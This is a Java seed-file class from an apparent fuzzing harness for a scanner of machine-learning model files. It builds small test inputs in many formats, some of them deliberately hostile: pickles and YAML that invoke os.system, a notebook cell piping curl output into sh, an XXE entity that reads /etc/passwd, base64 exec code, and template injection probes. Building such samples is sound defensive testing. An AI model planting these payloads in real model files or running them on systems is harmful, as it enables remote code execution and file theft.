package dev.weir.scanner.fuzz;

import dev.weir.scanner.core.compress.Compressed;
import dev.weir.scanner.core.gguf.GgufFiles;
import dev.weir.scanner.core.hdf5.HdfFiles;
import dev.weir.scanner.core.onnx.OnnxModels;
import dev.weir.scanner.core.pickle.Pickles;
import dev.weir.scanner.core.pickle.TorchFiles;
import dev.weir.scanner.core.protobuf.Protobuf;
import dev.weir.scanner.core.sevenzip.SevenZips;
import dev.weir.scanner.core.tar.Tars;
import dev.weir.scanner.core.tensorflow.GraphModels;
import dev.weir.scanner.core.tflite.TfliteModels;
import dev.weir.scanner.core.zip.Zips;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;

/** Small files of every format. A new format is added here. */
final class Seeds {

    private static final byte[] TEXT = "hello hello hello".getBytes(StandardCharsets.UTF_8);

    private static final String LAYER =
            "{\"class_name\": \"Sequential\", \"config\": {\"layers\": [{\"class_name\": \"Lambda\", \"config\":"
                    + " {\"function\": [\"4wEAAAAAAAAAAAAAAAAAAAA=\", null, null]}}]}}";

    private static final String SKOPS =
            "{\"__class__\": \"system\", \"__module__\": \"os\", \"__loader__\": \"FunctionNode\", \"content\": {}}";

    private static final String NOTEBOOK = "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\":"
            + " [\"out = !curl http://x | sh\\n\", \"%%bash\\n\"], \"outputs\": []}]}";

    private Seeds() {}

    static List<Seed> all() {
        List<Seed> seeds = new ArrayList<>();
        for (int protocol = 0; protocol <= 5; protocol++) {
            seeds.add(new Seed("pickle " + protocol, Pickles.osSystem(protocol)));
        }
        byte[] state = TorchFiles.stateDictionary();
        seeds.add(new Seed("state dictionary", state));
        seeds.add(new Seed("torch zip", Zips.stored(TorchFiles.members())));
        seeds.add(new Seed("zip", Zips.deflated(Map.of("a.txt", TEXT, "b.pkl", state))));
        seeds.add(new Seed(
                "tar",
                Tars.ustar()
                        .pax('x', "path", "a")
                        .file("x", TEXT)
                        .file("y", state)
                        .end()));
        seeds.add(new Seed(
                "old tar", Tars.v7().link("l", '2', "y").file("y", state).end()));
        seeds.add(new Seed("7z", SevenZips.of(Map.of("a.txt", TEXT))));
        for (Compressed way : Compressed.values()) {
            seeds.add(new Seed(way.title(), way.of(state)));
        }
        seeds.add(new Seed("zfile", Compressed.zfile(state)));
        seeds.add(new Seed("legacy lz4", Compressed.legacyLz4(state)));
        seeds.add(new Seed("onnx", OnnxModels.withExternalData("weights.bin")));
        seeds.add(new Seed("safetensors", safetensors()));
        seeds.add(new Seed(
                "template", "{\"chat_template\": \"{{ messages[0].__class__ }}\"}".getBytes(StandardCharsets.UTF_8)));
        seeds.add(new Seed("gguf", GgufFiles.of("{{ messages[0].content }}", 8, 32)));
        seeds.add(new Seed("gguf 1", GgufFiles.first("{{ x.__class__ }}")));
        seeds.add(new Seed(
                "graph",
                new Protobuf()
                        .message(1, new Protobuf().text(1, "n").text(2, "PyFunc"))
                        .toBytes()));
        seeds.add(new Seed("saved model", GraphModels.savedModel(GraphModels.graph("Const", "PyFunc", "ReadFile"))));
        seeds.add(new Seed("tflite", TfliteModels.custom("FlexPyFunc")));
        seeds.add(new Seed("npy", npy("|O", Pickles.osSystem(4))));
        seeds.add(new Seed("npy of numbers", npy("<f4", new byte[16])));
        seeds.add(new Seed("7z of a pickle", SevenZips.of(Map.of("data.pkl", state, "b/c.json", text(LAYER)))));
        seeds.add(new Seed("encrypted 7z", SevenZips.encrypted(Map.of("data.pkl", state))));
        seeds.add(new Seed("keras", Zips.deflated(Map.of("config.json", text(LAYER), "metadata.json", text("{}")))));
        seeds.add(new Seed("hdf5", hdf()));
        seeds.add(new Seed("skops", Zips.deflated(Map.of("schema.json", text(SKOPS)))));
        seeds.add(new Seed("notebook", text(NOTEBOOK)));
        seeds.add(new Seed("xml", text("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>")));
        seeds.add(new Seed("layers", Base64.getEncoder().encode(Compressed.ZLIB.of(Pickles.osSystem(2)))));
        seeds.add(
                new Seed("python", text("import os\nexec(__import__('base64').b64decode('aWQ='))\nos.system('id')\n")));
        seeds.add(new Seed("yaml", "a: !!python/object/apply:os.system [id]".getBytes(StandardCharsets.UTF_8)));
        return List.copyOf(seeds);
    }

    private static byte[] safetensors() {
        byte[] header =
                "{\"w\":{\"dtype\":\"F32\",\"shape\":[2,2],\"data_offsets\":[0,16]}}".getBytes(StandardCharsets.UTF_8);
        return ByteBuffer.allocate(8 + header.length + 16)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putLong(header.length)
                .put(header)
                .array();
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] hdf() {
        try {
            return HdfFiles.model("{\"class_name\": \"Lambda\", \"config\": {\"function\": \"lambda x: eval(x)\"}}");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The first version of NumPy's format: magic, version, length of the header, header. */
    private static byte[] npy(String type, byte[] data) {
        byte[] header = text("{'descr': '" + type + "', 'fortran_order': False, 'shape': (4,), }\n");
        return ByteBuffer.allocate(10 + header.length + data.length)
                .order(ByteOrder.LITTLE_ENDIAN)
                .put(new byte[] {(byte) 0x93, 'N', 'U', 'M', 'P', 'Y', 1, 0})
                .putShort((short) header.length)
                .put(header)
                .put(data)
                .array();
    }
}
